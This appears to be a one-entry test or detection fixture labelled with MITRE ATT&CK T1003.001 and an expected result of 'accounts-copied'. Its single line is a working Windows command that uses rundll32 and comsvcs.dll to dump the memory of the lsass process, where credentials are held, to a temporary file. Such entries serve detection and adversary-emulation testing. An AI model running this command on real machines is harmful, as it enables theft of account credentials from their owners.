# expect: accounts-copied | source: MITRE ATT&CK T1003.001
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id "$env:TEMP\l.dmp" full
